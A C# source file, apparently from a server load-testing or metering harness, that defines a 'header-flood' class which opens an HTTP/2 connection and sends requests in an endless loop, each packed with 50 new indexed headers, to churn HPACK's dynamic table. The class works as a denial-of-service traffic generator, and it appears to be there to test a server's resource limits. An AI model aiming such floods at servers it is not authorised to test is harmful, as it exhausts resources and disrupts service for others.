namespace Metering.Attacks;

/// <summary>
/// Requests with as many headers as are allowed, each under a name that was never sent before and that the server is
/// told to remember: decoding, and churn of HPACK's dynamic table. RFC 7541, section 7.3.
/// </summary>
internal sealed class HeaderFlood : Attack
{
    private const int HeaderCount = 50;
    private const int FieldCharacters = 150;

    public override string Name => "header-flood";

    public override string Does => "requests full of ever new headers that churn HPACK's table (RFC 7541, 7.3)";

    public override IReadOnlyList<string> MetBy => ["RequestHeaders", "RequestHeadersBytes", "HeaderTableBytes"];

    public override string Unit => "requests";

    public override double UnitsPerSecond => 1_000;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async();
        byte[] call = HeaderBlock.OfCall("/unknown.Service/Method", token: null);
        var batch = new FrameBatch();
        int stream = -1;
        while (true)
            await lane.SendAsync(connection, batch, most: 4, frames => frames.Headers(stream += 2, [.. call, .. Fields(stream)], endsStream: true));
    }

    private static IEnumerable<byte> Fields(int stream) => Enumerable.Range(0, HeaderCount)
        .SelectMany(number => HeaderBlock.Field($"x-{stream}-{number}", new string((char)('a' + (number % 26)), FieldCharacters), isRemembered: true));
}
